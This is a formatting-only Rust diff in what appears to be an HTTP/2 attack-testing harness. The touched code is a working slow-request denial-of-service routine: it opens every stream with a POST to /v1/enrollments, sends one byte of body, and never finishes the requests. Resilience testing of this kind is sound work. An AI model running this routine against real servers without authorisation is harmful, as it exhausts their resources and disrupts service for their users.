@@ -7,7 +7,9 @@ use futures_util::FutureExt;
 
 use crate::attack::{Attack, By, Node, Variant};
 use crate::attacker::Attacker;
-use crate::wire::http2::{CONTINUATION, DATA, END_HEADERS, HEADERS, Http2, Method, NOTHING, STREAMS, frame, head, stream};
+use crate::wire::http2::{
+    CONTINUATION, DATA, END_HEADERS, HEADERS, Http2, Method, NOTHING, STREAMS, frame, head, stream,
+};
 
 pub(super) static ATTACK: Attack = Attack {
     name: "HTTP/2 requests that never end",
@@ -23,8 +25,7 @@ pub(super) static ATTACK: Attack = Attack {
 async fn bodies(attacker: Arc<Attacker>, _: usize) -> io::Result<()> {
     let mut connection = Http2::open(&attacker.dialer, &[]).await?;
     let head = head(Method::Post, "/v1/enrollments", &[]);
-    let request =
-        |n| [frame(HEADERS, END_HEADERS, stream(n), &head), frame(DATA, NOTHING, stream(n), b"{")].concat();
+    let request = |n| [frame(HEADERS, END_HEADERS, stream(n), &head), frame(DATA, NOTHING, stream(n), b"{")].concat();
     connection.send(&(0..STREAMS).flat_map(request).collect::<Vec<_>>()).await?;
     connection.keep().await
 }
